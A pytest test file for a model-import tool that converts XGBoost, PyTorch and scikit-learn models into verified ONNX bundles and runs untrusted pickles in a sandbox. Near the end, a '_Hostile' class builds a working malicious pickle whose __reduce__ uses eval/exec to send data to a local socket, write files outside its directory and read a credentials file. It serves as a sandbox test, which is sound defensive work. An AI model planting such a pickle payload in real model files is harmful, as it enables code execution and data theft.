"""`wavelet-pipeline import`: a guide user's own models (trained here, tiny, by byom_fixtures)
become a bundle that verifies and answers what the original frameworks answer; every
refusal exits 2 with a message and writes nothing; pickles are unpickled only in the sandbox."""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
from pathlib import Path
from typing import Callable

import numpy as np
import pandas as pd
import pytest
import torch
import xgboost as xgb
from sklearn.base import BaseEstimator, RegressorMixin
from torch import nn

import byom_fixtures as fx
from wavelet_pipeline import conformal, onnx_tools
from wavelet_pipeline.bundle import MANIFEST, VECTORS, seal, sha256_file, verify_bundle
from wavelet_pipeline.cli import main
from wavelet_pipeline.importer import architectures, sandbox, sequence, sklearn_ensemble
from wavelet_pipeline.importer import xgb as xgb_import

MODELS = ("xgboost", "lstm", "transformer", "gru", "ensemble")
def _can_unshare() -> bool:
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "--net", "--mount", "--pid", "--fork", "true"], capture_output=True).returncode == 0


sandboxed = pytest.mark.skipif(not _can_unshare(), reason="the pickle sandbox needs root with unshare(1) working (CI has both)")


def run_import(source: Path, out: Path, *extra: str) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["import", str(source), "--name", "byom", "--version", "1.0.0", "--out", str(out), *extra])
    return code, err.getvalue()


def onnx_answers(bundle: Path, model: str, rows: np.ndarray) -> np.ndarray:
    entry = json.loads((bundle / MANIFEST).read_text())["models"][model]
    return onnx_tools.predict(bundle / entry["file"], rows)


def assert_matches_framework(bundle: Path, trained: fx.Trained, models: tuple[str, ...], ensemble: str = "ensemble") -> None:
    """onnxruntime on the bundle's graphs against the original frameworks, at two batch sizes
    (`ensemble`: the weights, or the scikit-learn ensemble "voting" | "stacking" that is the bundle's)."""
    rows = np.random.default_rng(99).standard_normal((13, len(fx.NAMES)))
    for model in models:
        want = trained.predict(ensemble if model == "ensemble" else model, rows)
        np.testing.assert_allclose(onnx_answers(bundle, model, rows), want, rtol=1e-5, atol=1e-6, err_msg=model)
        np.testing.assert_allclose(onnx_answers(bundle, model, rows[:1]), want[:1], rtol=1e-5, atol=1e-6, err_msg=model)


@pytest.fixture(scope="module")
def full(trained: fx.Trained, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
    root = tmp_path_factory.mktemp("full")
    guide = fx.write_layout(root / "guide", trained)
    code, err = run_import(guide, root / "bundle")
    assert code == 0, err
    return guide, root / "bundle", err


def test_the_guides_layout_imports_verifies_and_answers_as_the_frameworks_do(full: tuple[Path, Path, str], trained: fx.Trained) -> None:
    guide, bundle, _ = full
    assert verify_bundle(bundle) == []
    assert_matches_framework(bundle, trained, MODELS)
    manifest = json.loads((bundle / MANIFEST).read_text())
    assert manifest["features"] == {"kind": "named", "names": fx.NAMES, "sequence_length": fx.LENGTH}
    assert list(manifest["models"]) == ["xgboost", "lstm", "transformer", "gru", "ensemble"]
    assert manifest["default_model"] == "ensemble"
    assert manifest["target"] == {"name": "target", "kind": "return", "horizon": 1, "units": "as trained", "link": "identity"}
    assert manifest["conformal"] == {"level": 0.9, "lower_bound_zero": False, "available": False, "why": "imported without --calibration data"}
    assert "target_range" not in manifest and "feature_range" not in manifest
    formats = {m: e["source"]["format"] for m, e in manifest["models"].items()}
    assert formats == {"xgboost": "xgboost-ubjson", "lstm": "torch-state-dict", "transformer": "torch-state-dict",
                       "gru": "torchscript", "ensemble": "ensemble-weights"}
    for model, entry in manifest["models"].items():
        assert "calibration" not in entry
        assert entry["precision"] == "float32"
        assert entry["inputs"] == [{"name": "features", "type": "float32", "shape": [None, 10]}]
        assert entry["outputs"] == [{"name": "prediction", "type": "float32", "shape": [None, 1]}]
        assert entry["source"]["sha256"] == sha256_file(guide / entry["source"]["file"])
        assert manifest["parity"][model]["max_rel_diff"] <= 1e-5
    assert manifest["models"]["lstm"]["source"]["exporter"].startswith("torch.onnx.export(dynamo=False)")
    steps = {c["steps"] for c in manifest["models"]["transformer"]["sequence"]["checks"]["checked"]}
    assert steps == {fx.LENGTH, fx.LENGTH + 1}, "raw sequence model checked at two lengths"
    assert manifest["source"] == {"kind": "import", "pickle": False,
                                  "dir_files": {p.name: sha256_file(p) for p in sorted(guide.iterdir())}}
    assert manifest["models"]["ensemble"]["weights"] == fx.WEIGHTS
    vectors = json.loads((bundle / VECTORS).read_text())
    case = vectors["cases"][0]
    assert vectors["kind"] == "named" and np.asarray(case["features"]).shape == (32, 10)
    assert set(case["predictions"]) == set(case["onnx_predictions"]) == set(MODELS)
    card = (bundle / "model_card.md").read_text()
    assert "Nothing here measures how well they forecast" in card
    for file, digest in manifest["source"]["dir_files"].items():
        assert f"| `{file}` | `{digest}` |" in card


def test_verify_refuses_onnx_answers_that_left_the_framework(full: tuple[Path, Path, str], tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(full[1], copy)
    vectors = json.loads((copy / VECTORS).read_text())
    vectors["cases"][0]["predictions"]["lstm"][3] += 1e-3
    (copy / VECTORS).write_text(json.dumps(vectors))
    seal(copy, json.loads((copy / MANIFEST).read_text()))
    problems = verify_bundle(copy)
    assert problems == ["vectors synthetic-rows: lstm ONNX predictions differ from the original framework's beyond 1e-05 relative + 1e-06 absolute"]
    with contextlib.redirect_stdout(io.StringIO()):
        assert main(["verify", str(copy)]) == 1
    with contextlib.redirect_stderr(io.StringIO()) as err:
        assert main(["card", str(copy)]) == 2, "the commands for trained bundles refuse an imported one"
    assert "imported (named features, not trained here)" in err.getvalue()


@pytest.mark.parametrize("fmt", ["booster-json", "ubj"])
def test_xgboost_alone_is_a_one_model_bundle(trained: fx.Trained, tmp_path: Path, fmt: str) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost",), xgboost_format=fmt)
    code, err = run_import(guide, tmp_path / "bundle")
    assert code == 0, err
    manifest = json.loads((tmp_path / "bundle" / MANIFEST).read_text())
    assert list(manifest["models"]) == ["xgboost"] and manifest["default_model"] == "xgboost"
    assert manifest["models"]["xgboost"]["source"]["format"] == ("xgboost-json" if fmt == "booster-json" else "xgboost-ubjson")
    assert manifest["features"]["sequence_length"] == 1
    assert verify_bundle(tmp_path / "bundle") == []
    assert_matches_framework(tmp_path / "bundle", trained, ("xgboost",))


@pytest.mark.parametrize("objective", xgb_import.IMPORTED_OBJECTIVES)
def test_every_imported_objective_converts_to_the_same_quantity(tmp_path: Path, objective: str) -> None:
    X, y = fx.data(200)
    model = xgb.XGBRegressor(n_estimators=15, max_depth=3, objective=objective, n_jobs=1,
                             **({"quantile_alpha": 0.3} if objective == "reg:quantileerror" else {}))
    model.fit(X, np.abs(y) + 0.1).save_model(str(tmp_path / "m.ubj"))
    loaded = xgb_import.load(tmp_path / "m.ubj", fx.NAMES)
    rows = np.random.default_rng(4).standard_normal((50, 10))
    want = model.predict(rows.astype(np.float32)).astype(np.float64)
    np.testing.assert_allclose(loaded.predict(rows), want)
    np.testing.assert_allclose(onnx_tools.predict(loaded.to_onnx(), rows), want, rtol=1e-5, atol=1e-6)


def test_early_stopping_is_kept_as_xgbregressor_predicts(tmp_path: Path) -> None:
    X, y = fx.data(300)
    model = xgb.XGBRegressor(n_estimators=300, learning_rate=0.5, early_stopping_rounds=2, n_jobs=1)
    model.fit(X[:200], y[:200], eval_set=[(X[200:], y[200:])], verbose=False)
    assert model.best_iteration + 1 < model.get_booster().num_boosted_rounds()
    model.save_model(str(tmp_path / "m.json"))
    loaded = xgb_import.load(tmp_path / "m.json", fx.NAMES)
    assert loaded.details["trees_used"].startswith(f"rounds 0..{model.best_iteration} ")
    rows = np.random.default_rng(4).standard_normal((50, 10))
    np.testing.assert_allclose(onnx_tools.predict(loaded.to_onnx(), rows), model.predict(rows.astype(np.float32)), rtol=1e-5, atol=1e-6)


def test_torchscript_without_config_reads_the_vector_as_one_step(tmp_path: Path) -> None:
    torch.manual_seed(1)
    mlp = torch.jit.script(nn.Sequential(nn.Linear(10, 8), nn.Tanh(), nn.Linear(8, 1)).eval())
    guide = tmp_path / "guide"
    guide.mkdir()
    (guide / "feature_names.json").write_text(json.dumps(fx.NAMES))
    mlp.save(str(guide / "mlp_optimized.pt"))
    code, err = run_import(guide, tmp_path / "bundle")
    assert code == 0, err
    manifest = json.loads((tmp_path / "bundle" / MANIFEST).read_text())
    assert manifest["default_model"] == "mlp" and manifest["models"]["mlp"]["sequence"]["sequence_length"] == 1
    rows = np.random.default_rng(5).standard_normal((7, 10))
    with torch.no_grad():
        want = mlp(torch.from_numpy(rows.astype(np.float32)).reshape(-1, 1, 10)).double().reshape(-1).numpy()
    np.testing.assert_allclose(onnx_answers(tmp_path / "bundle", "mlp", rows), want, rtol=1e-5, atol=1e-6)


def test_calibration_gives_intervals_and_ranges(trained: fx.Trained, tmp_path: Path) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost", "lstm"))
    calibration = fx.write_calibration(tmp_path / "calibration.csv", target="next_return")
    code, err = run_import(guide, tmp_path / "bundle", "--calibration", str(calibration), "--target-column", "next_return",
                           "--target-name", "log_return_1d")
    assert code == 0, err
    bundle = tmp_path / "bundle"
    assert verify_bundle(bundle) == []
    manifest = json.loads((bundle / MANIFEST).read_text())
    frame = pd.read_csv(calibration)
    X, y = frame[fx.NAMES].to_numpy(), frame["next_return"].to_numpy()
    assert manifest["conformal"]["available"] is True and manifest["conformal"]["scale"] == "rms_features"
    for model in ("xgboost", "lstm"):
        want = conformal.calibrate(y, onnx_answers(bundle, model, X), X, "rms_features").describe()
        assert manifest["models"][model]["calibration"] == pytest.approx(want)
    assert manifest["target_range"]["min"] == pytest.approx(y.min()) and manifest["target"]["name"] == "log_return_1d"
    assert manifest["feature_range"]["max"] == pytest.approx(X.max(axis=0).tolist())
    assert json.loads((bundle / VECTORS).read_text())["cases"][0]["name"] == "calibration-rows"


def test_sequence_architectures_export_with_every_option(tmp_path: Path) -> None:
    """The schema's optional keys (bidirectional, mean head, pre-norm, gelu, two layers):
    onnxruntime answers as torch does, the Transformer's as torch.nn.TransformerEncoder's."""
    rows = np.random.default_rng(2).standard_normal((9, 12))
    for raw in (
        {"architecture": "lstm", "input_size": 3, "sequence_length": 4, "hidden_size": 5, "num_layers": 2, "bidirectional": True, "head": "mean", "dropout": 0.2},
        {"architecture": "transformer", "input_size": 3, "sequence_length": 4, "d_model": 8, "heads": 4, "feedforward": 12,
         "num_layers": 2, "norm_first": True, "activation": "gelu", "max_len": 4},
    ):
        torch.manual_seed(0)
        config = architectures.parse_config(raw)
        model = sequence.TorchImport(raw["architecture"], architectures.build(config).eval(), None, 4, 3, "torch-state-dict",  # type: ignore[arg-type]
                                     max_length=config.max_len, config=config)
        model.export_module = architectures.exportable(model.module, config)
        graph, report, notes = sequence.to_onnx(model)
        np.testing.assert_allclose(onnx_tools.predict(graph, rows), model.predict(rows), rtol=1e-5, atol=1e-6)
        assert {c["steps"] for c in report["checked"]} == {4, 5 if raw["architecture"] == "lstm" else 3}


@pytest.mark.parametrize("kind", ["voting", "stacking"])
def test_a_skops_ensemble_imports_alone_and_answers_as_its_predict(trained: fx.Trained, tmp_path: Path, kind: str) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("ensemble",), skops_ensemble=kind)
    assert sorted(p.name for p in guide.iterdir()) == ["ensemble_optimized.skops", "feature_names.json"]
    code, err = run_import(guide, tmp_path / "bundle")
    assert code == 0, err
    bundle = tmp_path / "bundle"
    assert verify_bundle(bundle) == []
    assert_matches_framework(bundle, trained, ("ensemble",), ensemble=kind)
    manifest = json.loads((bundle / MANIFEST).read_text())
    assert list(manifest["models"]) == ["ensemble"] and manifest["default_model"] == "ensemble"
    entry = manifest["models"]["ensemble"]
    assert entry["source"]["format"] == "sklearn-skops" and entry["source"]["file"] == "ensemble_optimized.skops"
    assert "sklearn.svm._classes.SVR" not in entry["source"]["trusted_types"]
    assert set(entry["imported"]["types_in_file"]) <= set(entry["source"]["trusted_types"])
    assert entry["inputs"] == [{"name": "features", "type": "float32", "shape": [None, 10]}]
    assert entry["outputs"] == [{"name": "prediction", "type": "float32", "shape": [None, 1]}]
    members = {"xgb": "XGBRegressor", "ridge": "Ridge", **({"forest": "RandomForestRegressor"} if kind == "stacking" else {})}
    assert entry["imported"]["members"] == members
    assert entry["imported"].get("final_estimator") == ("Ridge" if kind == "stacking" else None)
    assert manifest["parity"]["ensemble"]["max_rel_diff"] <= 1e-5
    assert "scikit-learn " + ("StackingRegressor" if kind == "stacking" else "VotingRegressor") in (bundle / "model_card.md").read_text()


def test_a_skops_ensemble_beside_other_models_is_the_default(trained: fx.Trained, tmp_path: Path) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost", "ensemble"), skops_ensemble="stacking")
    code, err = run_import(guide, tmp_path / "bundle")
    assert code == 0, err
    manifest = json.loads((tmp_path / "bundle" / MANIFEST).read_text())
    assert list(manifest["models"]) == ["xgboost", "ensemble"] and manifest["default_model"] == "ensemble"
    assert_matches_framework(tmp_path / "bundle", trained, ("xgboost", "ensemble"), ensemble="stacking")


def test_every_accepted_member_kind_converts(tmp_path: Path) -> None:
    """The members the README lists, in one VotingRegressor (fitted on an array: no names)."""
    import skops.io as sio
    from sklearn.ensemble import ExtraTreesRegressor, GradientBoostingRegressor, RandomForestRegressor, VotingRegressor
    from sklearn.linear_model import LinearRegression, Ridge, RidgeCV
    from sklearn.tree import DecisionTreeRegressor

    X, y = fx.data(200)
    members = [("xgb", xgb.XGBRegressor(n_estimators=5, max_depth=2, n_jobs=1)), ("lr", LinearRegression()), ("ridge", Ridge()),
               ("ridgecv", RidgeCV()), ("tree", DecisionTreeRegressor(max_depth=3)), ("forest", RandomForestRegressor(4, max_depth=3)),
               ("extra", ExtraTreesRegressor(4, max_depth=3)), ("gb", GradientBoostingRegressor(n_estimators=5))]
    voting = VotingRegressor(members).fit(X, y)
    sio.dump(voting, tmp_path / "e.skops")
    loaded = sklearn_ensemble.load(tmp_path / "e.skops", fx.NAMES)
    assert loaded.details["own_feature_names"] == "none"
    rows = np.random.default_rng(8).standard_normal((20, 10))
    want = voting.predict(rows.astype(np.float32).astype(np.float64))
    np.testing.assert_allclose(loaded.predict(rows), want)
    graph = loaded.to_onnx()
    for batch in (rows, rows[:1]):
        np.testing.assert_allclose(onnx_tools.predict(graph, batch), want[: len(batch)], rtol=1e-5, atol=1e-6)


class _ConstantRegressor(RegressorMixin, BaseEstimator):
    """A user's own class: skops can save it, the importer must not construct it."""

    def fit(self, X: np.ndarray, y: np.ndarray) -> "_ConstantRegressor":
        self.value_ = float(np.mean(y))
        return self

    def predict(self, X: np.ndarray) -> np.ndarray:
        return np.full(len(X), self.value_)


def _skops_ensemble(make: Callable[[], object], n_features: int = 10, columns: list[str] | None = None,
                    positive: bool = False) -> Callable[[Path, fx.Trained], None]:
    """Replaces the layout's ensemble_optimized.json by `make()`, fitted (on |y| + 0.1 if
    `positive`), saved with skops."""
    def change(guide: Path, trained: fx.Trained) -> None:
        import skops.io as sio

        X, y = fx.data(100)
        y = np.abs(y) + 0.1 if positive else y
        X = X[:, :n_features] if columns is None else pd.DataFrame(X, columns=columns)
        estimator = make()
        (guide / "ensemble_optimized.json").unlink()
        sio.dump(estimator.fit(X, y), guide / "ensemble_optimized.skops")  # type: ignore[attr-defined]
    return change


def _voting(*members: tuple[str, object]) -> Callable[[], object]:
    from sklearn.ensemble import VotingRegressor
    from sklearn.linear_model import Ridge

    return lambda: VotingRegressor([*members, ("ridge", Ridge())])


def _svr() -> object:
    from sklearn.svm import SVR

    return SVR()


def _log_pipeline() -> object:
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer
    from sklearn.linear_model import Ridge

    return make_pipeline(FunctionTransformer(np.tanh), Ridge())


def _stacking_with_forest() -> object:
    from sklearn.ensemble import RandomForestRegressor, StackingRegressor
    from sklearn.linear_model import Ridge

    return StackingRegressor([("ridge", Ridge())], final_estimator=RandomForestRegressor(3, max_depth=2), cv=3)


def _ridge() -> object:
    from sklearn.linear_model import Ridge

    return Ridge()


# ---- refusals: exit 2, a message, nothing written -------------------------------------------

def _lstm_config(guide: Path, **changes: object) -> None:
    config = json.loads((guide / "lstm_optimized_config.json").read_text())
    config.update(changes)
    (guide / "lstm_optimized_config.json").write_text(json.dumps({k: v for k, v in config.items() if v is not None}))


def _xgboost_objective(objective: str, classifier: bool = False) -> Callable[[Path, fx.Trained], None]:
    def make(guide: Path, trained: fx.Trained) -> None:
        X, y = fx.data(100)
        cls = xgb.XGBClassifier if classifier else xgb.XGBRegressor
        target = (y > 0).astype(int) if classifier else np.abs(y) + 0.1
        cls(n_estimators=3, objective=objective).fit(X, target).save_model(str(guide / "xgboost_optimized.ubj"))
    return make


def _state_dict_renamed(guide: Path, trained: fx.Trained) -> None:
    state = trained.lstm.state_dict()
    state["fc.weight"], state["fc.bias"] = state.pop("head.weight"), state.pop("head.bias")
    torch.save(state, guide / "lstm_optimized.pth")


def _full_module(guide: Path, trained: fx.Trained) -> None:
    torch.save(trained.lstm, guide / "lstm_optimized.pth")


REFUSALS: dict[str, tuple[Callable[[Path, fx.Trained], None], list[str]]] = {
    "pickle without --allow-pickle": (
        lambda g, t: [(g / f).unlink() for f in ("xgboost_optimized.ubj", "ensemble_optimized.json")] + [fx.write_layout(g, t, models=("xgboost", "ensemble"), pickles=True)],
        ["error: xgboost_optimized.pkl, ensemble_optimized.pkl: pickles; unpickling runs whatever code the file holds",
         "--out {out} --allow-pickle\n", "    python -c \"import pickle; pickle.load(open('{guide}/xgboost_optimized.pkl', 'rb'))"
         ".save_model('{guide}/xgboost_optimized.ubj')\"\n"]),
    "full-module .pth without --allow-pickle": (_full_module, ["lstm_optimized.pth: a pickle", "torch.jit.trace(m, torch.zeros(1, 5, 2))"]),
    "log-link objective": (_xgboost_objective("reg:gamma"), ["xgboost_optimized.ubj: objective reg:gamma predicts exp(sum of trees)"]),
    "classifier": (_xgboost_objective("binary:logistic", classifier=True), ["objective binary:logistic is not a regression of one number"]),
    "config keys of another schema": (
        lambda g, t: _lstm_config(g, hidden_size=None, num_layers=None, hidden_dim=8, n_layers=1),
        ["lstm_optimized_config.json: not the lstm config schema: missing keys num_layers, hidden_size; unknown keys hidden_dim, n_layers"]),
    "state dict renamed": (_state_dict_renamed, ["lstm_optimized.pth does not match the lstm that lstm_optimized_config.json describes: "
                                                 "missing keys head.weight, head.bias; unexpected keys fc.weight, fc.bias"]),
    "state dict of another size": (lambda g, t: _lstm_config(g, hidden_size=16),
                                   ["shape mismatches lstm.weight_ih_l0 [32, 2] in the file, [64, 2] expected"]),
    "input size disagrees": (lambda g, t: _lstm_config(g, input_size=3),
                             ["lstm_optimized_config.json: sequence_length 5 × input_size 3 = 15 inputs, feature_names.json has 10"]),
    "xgboost input size disagrees": (lambda g, t: (g / "feature_names.json").write_text(json.dumps(fx.NAMES + ["extra"])),
                                     ["xgboost_optimized.ubj: XGBoost num_feature 10, feature_names.json has 11",
                                      "lstm_optimized_config.json: sequence_length 5 × input_size 2 = 10 inputs, feature_names.json has 11"]),
    "xgboost feature names differ": (lambda g, t: (g / "feature_names.json").write_text(json.dumps(["RSI"] + fx.NAMES[1:])),
                                     ["the model's own feature names differ from feature_names.json at #0 'rsi_14' (model) vs 'RSI' (feature_names.json)"]),
    "ensemble member missing": (lambda g, t: (g / "ensemble_optimized.json").write_text(json.dumps({"weights": {**fx.WEIGHTS, "tcn": 0.1}})),
                                ["ensemble_optimized.json: weights name tcn, not among the imported models"]),
    "ensemble weight not finite": (lambda g, t: (g / "ensemble_optimized.json").write_text('{"weights": {"xgboost": NaN}}'),
                                   ["weights must be finite numbers; xgboost: nan"]),
    "feature_names not a list": (lambda g, t: (g / "feature_names.json").write_text('{"rsi_14": 0}'),
                                 ["feature_names.json: must be a non-empty JSON list of feature names, not dict"]),
    "feature_names repeated": (lambda g, t: (g / "feature_names.json").write_text(json.dumps(fx.NAMES[:9] + ["rsi_14"])),
                               ["feature_names.json: names must be unique; repeated: 'rsi_14' (#0 and #9)"]),
    "empty directory": (lambda g, t: [p.unlink() for p in g.iterdir()], ["is empty"]),
    "two xgboost files": (lambda g, t: t.xgboost.save_model(str(g / "xgboost_optimized.json")),
                          ["both xgboost_optimized.ubj and xgboost_optimized.json"]),
    "skops ensemble beside the weights": (lambda g, t: fx.write_layout(g, t, models=("ensemble",), skops_ensemble="voting"),
                                          ["both ensemble_optimized.json (weights over the members) and ensemble_optimized.skops"]),
    "skops ensemble with an SVR": (_skops_ensemble(_voting(("svr", _svr()))),
                                   ["ensemble_optimized.skops: holds types this importer does not trust: sklearn.svm._classes.SVR (trusted: "]),
    "skops ensemble with the user's own class": (_skops_ensemble(_voting(("mine", _ConstantRegressor()))),
                                                 ["holds types this importer does not trust: test_import._ConstantRegressor"]),
    "skops ensemble with a function": (_skops_ensemble(_voting(("tanh", _log_pipeline()))),
                                       ["holds types this importer does not trust: numpy.tanh, sklearn.pipeline.Pipeline, "
                                        "sklearn.preprocessing._function_transformer.FunctionTransformer; skops node kinds FunctionNode (functions or calls)"]),
    "skops ensemble of another feature count": (_skops_ensemble(_voting(), n_features=9),
                                                ["error: ensemble_optimized.skops: the VotingRegressor takes 9 features (n_features_in_), "
                                                 "feature_names.json has 10\n"]),
    "skops ensemble's feature names differ": (_skops_ensemble(_voting(), columns=["RSI"] + fx.NAMES[1:]),
                                              ["the VotingRegressor's feature_names_in_ differ from feature_names.json at #0 'RSI' (model) vs 'rsi_14'"]),
    "skops ensemble with a forest as final estimator": (_skops_ensemble(_stacking_with_forest),
                                                        ["ensemble_optimized.skops: final estimator RandomForestRegressor, not one of LinearRegression, Ridge, RidgeCV"]),
    "skops file not an ensemble": (_skops_ensemble(_ridge), ["holds a sklearn.linear_model._ridge.Ridge, not a scikit-learn VotingRegressor or StackingRegressor"]),
    "skops ensemble with a log-link xgboost": (_skops_ensemble(_voting(("xgb", xgb.XGBRegressor(n_estimators=3, objective="reg:gamma"))), positive=True),
                                               ["ensemble_optimized.skops: member 'xgb': objective reg:gamma predicts exp(sum of trees)"]),
    "torchscript called wrongly": (lambda g, t: (g / "gru_optimized_config.json").write_text(json.dumps({"sequence_length": 10, "input_size": 1})),
                                   ["gru_optimized.pt: calling it on a [2, 10, 1] input"]),
}


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_refusals_exit_2_with_a_message_and_write_nothing(trained: fx.Trained, tmp_path: Path, case: str) -> None:
    change, expected = REFUSALS[case]
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost", "lstm", "transformer", "gru", "ensemble"))
    change(guide, trained)
    code, err = run_import(guide, tmp_path / "out" / "bundle")
    assert code == 2, err
    for text in expected:
        assert text.format(guide=guide, out=tmp_path / "out" / "bundle") in err, err
    assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["guide"], "nothing written"


def test_an_existing_directory_that_is_not_a_bundle_is_not_replaced(trained: fx.Trained, tmp_path: Path) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost",))
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "notes.txt").write_text("mine")
    code, err = run_import(guide, tmp_path / "out")
    assert code == 2 and "exists and is not a bundle" in err
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["notes.txt"]


# ---- pickles, in the sandbox ----------------------------------------------------------------

@sandboxed
def test_allow_pickle_converts_pickles_in_the_sandbox(trained: fx.Trained, tmp_path: Path) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost", "lstm", "transformer", "ensemble"), pickles=True)
    # Whole pickled modules (not state dicts) of classes the child can import: one that the
    # LSTM config describes (imported as a state dict, checked against the module's own
    # answers), one with no config (traced to TorchScript).
    config = architectures.parse_config(fx.LSTM_CONFIG)
    module = architectures.build(config)
    module.load_state_dict(trained.lstm.state_dict())
    torch.save(module, guide / "lstm_optimized.pth")
    torch.manual_seed(3)
    mlp = nn.Sequential(nn.Flatten(), nn.Linear(10, 4), nn.Tanh(), nn.Linear(4, 1)).eval()
    torch.save(mlp, guide / "mlp_optimized.pth")
    code, err = run_import(guide, tmp_path / "bundle", "--allow-pickle")
    assert code == 0, err
    assert "in a child process with no network" in err
    manifest = json.loads((tmp_path / "bundle" / MANIFEST).read_text())
    assert manifest["source"]["pickle"] is True
    sources = {m: e["source"] for m, e in manifest["models"].items()}
    assert sources["xgboost"]["format"] == "pickle" and sources["xgboost"]["converted_to"] == "xgboost-ubjson"
    assert sources["lstm"]["format"] == "pickle" and sources["lstm"]["converted_to"] == "torch-state-dict"
    assert sources["mlp"]["format"] == "pickle" and sources["mlp"]["converted_to"] == "torchscript"
    assert sources["ensemble"]["format"] == "pickle" and sources["transformer"]["format"] == "torch-state-dict"
    assert verify_bundle(tmp_path / "bundle") == []
    assert_matches_framework(tmp_path / "bundle", trained, ("xgboost", "lstm", "transformer", "ensemble"))
    rows = np.random.default_rng(6).standard_normal((5, 10))
    with torch.no_grad():
        want = mlp(torch.from_numpy(rows.astype(np.float32)).reshape(-1, 1, 10)).double().reshape(-1).numpy()
    np.testing.assert_allclose(onnx_answers(tmp_path / "bundle", "mlp", rows), want, rtol=1e-5, atol=1e-6)


@sandboxed
def test_a_pickled_scikit_learn_ensemble_is_imported_through_skops(trained: fx.Trained, tmp_path: Path) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("ensemble",), skops_ensemble="voting", pickles=True)
    code, err = run_import(guide, tmp_path / "bundle", "--allow-pickle")
    assert code == 0, err
    source = json.loads((tmp_path / "bundle" / MANIFEST).read_text())["models"]["ensemble"]["source"]
    assert source["format"] == "pickle" and source["converted_to"] == "sklearn-skops" and source["file"] == "ensemble_optimized.pkl"
    assert verify_bundle(tmp_path / "bundle") == []
    assert_matches_framework(tmp_path / "bundle", trained, ("ensemble",), ensemble="voting")


def test_allow_pickle_fails_closed_where_the_sandbox_cannot_run(trained: fx.Trained, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost",), pickles=True)
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    code, err = run_import(guide, tmp_path / "out" / "bundle", "--allow-pickle")
    assert code == 2 and "no pickle was read" in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["guide"]


def test_the_sandbox_child_refuses_to_run_outside_its_namespaces(tmp_path: Path) -> None:
    """Run directly (no unshare), it must not mount anything: pivot_root in the caller's mount
    namespace would move every process's root."""
    same = {kind: os.readlink(f"/proc/self/ns/{kind}") for kind in ("mnt", "net", "pid")}
    job = {"out": str(tmp_path), "root": str(tmp_path), "read": [], "namespaces": same, "tasks": []}
    child = subprocess.run([sys.executable, "-m", "wavelet_pipeline.importer.sandbox_child", json.dumps(job)],
                           capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(sandbox.SRC)})
    assert child.returncode == 3 and "not in a mnt namespace of its own" in child.stderr
    assert list(tmp_path.iterdir()) == []


class _Hostile:
    """Unpickles to the real model, after trying to phone home and to write outside; raises
    if it could read a secret (which it could, anywhere, unconfined)."""

    def __init__(self, model: object, port: int, outside: list[Path], secret: Path) -> None:
        self.payload = pickle.dumps(model)
        self.code = "\n".join([
            "import socket",
            "try:",
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leaked')",
            "except OSError:",
            "    pass",
            *[line for path in outside for line in (
                "try:", f"    open({str(path)!r}, 'w').write('escaped')", "except OSError:", "    pass")],
            "try:",
            f"    secret = open({str(secret)!r}).read()",
            "except OSError:",
            "    secret = None",
            "if secret is not None:",
            "    raise RuntimeError('read the secret')",
        ])

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (f"(exec({self.code!r}), __import__('pickle').loads({self.payload!r}))[1]",)


@sandboxed
def test_a_hostile_pickle_can_neither_connect_nor_write_outside_nor_read_secrets(trained: fx.Trained, tmp_path: Path) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("xgboost",))
    (guide / "xgboost_optimized.ubj").unlink()
    secret = guide / "credentials.txt"  # beside the pickle, which the sandbox must read
    secret.write_text("hunter2")
    outside = [tmp_path / "escaped.txt", guide / "escaped.txt", Path.cwd() / "escaped-from-sandbox.txt"]
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(0.2)
        port = listener.getsockname()[1]
        # The control: unpickled here, unconfined, the same payload connects, writes and reads.
        with pytest.raises(RuntimeError, match="read the secret"):
            pickle.loads(pickle.dumps(_Hostile(trained.xgboost, port, [tmp_path / "control.txt"], secret)))
        listener.accept()[0].close()
        assert (tmp_path / "control.txt").read_text() == "escaped"
        (tmp_path / "control.txt").unlink()

        (guide / "xgboost_optimized.pkl").write_bytes(pickle.dumps(_Hostile(trained.xgboost, port, outside, secret)))
        code, err = run_import(guide, tmp_path / "bundle", "--allow-pickle")
        with pytest.raises(socket.timeout):
            listener.accept()
    assert code == 0, err  # every attempt failed quietly (no secret read), and the model it returned is imported
    assert not any(p.exists() for p in outside)
    assert verify_bundle(tmp_path / "bundle") == []
    assert_matches_framework(tmp_path / "bundle", trained, ("xgboost",))


@sandboxed
def test_a_pickled_module_whose_class_is_not_importable_fails_cleanly(trained: fx.Trained, tmp_path: Path) -> None:
    guide = fx.write_layout(tmp_path / "guide", trained, models=("lstm",))
    torch.save(trained.lstm, guide / "lstm_optimized.pth")  # byom_fixtures.UserLSTM: not on the child's path
    code, err = run_import(guide, tmp_path / "out" / "bundle", "--allow-pickle")
    assert code == 2 and "lstm_optimized.pth: could not be converted in the sandbox" in err and "No module named 'byom_fixtures'" in err, err
